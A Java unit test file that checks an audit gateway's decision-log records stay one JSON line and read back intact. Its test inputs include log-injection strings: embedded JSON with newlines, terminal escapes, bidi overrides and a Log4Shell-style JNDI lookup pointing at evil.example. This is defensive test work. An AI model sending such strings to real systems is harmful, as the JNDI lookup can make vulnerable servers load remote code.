package dev.sluice.audit;

import static org.assertj.core.api.Assertions.assertThat;

import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.lang.reflect.RecordComponent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever a client names, a record is one line that any JSON parser reads back. */
class DecisionRecordTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\n{\"decision\":\"allowed\"}",
                "a\r\nb",
                "a\u2028b\u2029c\u0085d",
                "\u202Edetimil\u202C",
                "\u001b[2J\u0007\b\f\t\u0000\u007f",
                "${jndi:ldap://evil.example/a}",
                "\"},{\"\\",
                "\u200b\ufeff\u00ad",
                "\udb40\udc61\udb40\udc62",
                "\ud800x\udc00",
                "<script>&amp;",
                "語 😀 é"
            })
    void any_text_stays_one_line_and_reads_back(String text) {
        String line = record(text, List.of(text, "b")).toJson();

        JsonObject read = new JsonObject(line);
        assertThat(read.getString("tool")).isEqualTo(text);
        assertThat(read.getString("message")).isEqualTo(text);
        assertThat(read.getJsonArray("argumentKeys").stream()).containsExactly(text, "b");
        assertThat(read.getString("decision")).isEqualTo("denied");
        assertThat(line.codePoints().filter(DecisionRecordTest::isUnseen)).isEmpty();
    }

    @Test
    void every_field_is_in_the_reference() throws IOException {
        String page = Files.readString(Path.of("docs/reference-decision-log.md"));
        JsonObject written = new JsonObject(record("t", List.of("a")).toJson());

        assertThat(DecisionRecord.class.getRecordComponents())
                .extracting(RecordComponent::getName)
                .containsAll(written.fieldNames())
                .allSatisfy(field -> assertThat(page).contains("`" + field + "`"));
    }

    @Test
    void fields_stand_in_the_order_that_people_know() {
        String line = record("t", List.of("b", "a")).toJson();

        assertThat(line)
                .isEqualTo(
                        "{\"time\":\"2026-11-21T09:00:00Z\",\"requestId\":\"r\",\"generation\":3,"
                                + "\"configHash\":\"h\",\"server\":\"s\",\"grant\":\"g\","
                                + "\"subject\":\"g\",\"policy\":\"p\",\"policyVersion\":\"v\","
                                + "\"method\":\"tools/call\",\"tool\":\"t\","
                                + "\"decision\":\"denied\",\"rule\":\"(hidden)\","
                                + "\"message\":\"t\",\"argumentKeys\":[\"b\",\"a\"],"
                                + "\"outcome\":\"refused\",\"gatewayMicros\":12}");
    }

    @Test
    void what_a_shadowed_call_would_have_been_stands_behind_its_rule() {
        assertThat(record("t", List.of(), "shadowed", "limited").toJson())
                .contains(
                        "\"decision\":\"shadowed\",\"rule\":\"(hidden)\","
                                + "\"wouldBe\":\"limited\",\"message\":\"t\"");
    }

    @Test
    void what_is_not_known_is_left_out() {
        JsonObject read = new JsonObject(record(null, List.of()).toJson());

        assertThat(read.fieldNames())
                .doesNotContain("tool", "message", "traceId", "wouldBe", "approval")
                .doesNotContain("upstreamStatus", "upstreamMicros")
                .contains("argumentKeys");
    }

    private static boolean isUnseen(int c) {
        return switch (Character.getType(c)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR ->
                    true;
            default -> false;
        };
    }

    static DecisionRecord record(@Nullable String text, List<String> keys) {
        return record(text, keys, "denied", null);
    }

    private static DecisionRecord record(
            @Nullable String text, List<String> keys, String decision, @Nullable String wouldBe) {
        return new DecisionRecord(
                Instant.parse("2026-11-21T09:00:00Z"),
                "r",
                null,
                3,
                "h",
                "s",
                "g",
                "g",
                "p",
                "v",
                "tools/call",
                text,
                decision,
                "(hidden)",
                wouldBe,
                text,
                null,
                keys,
                null,
                null,
                "refused",
                12,
                null);
    }
}
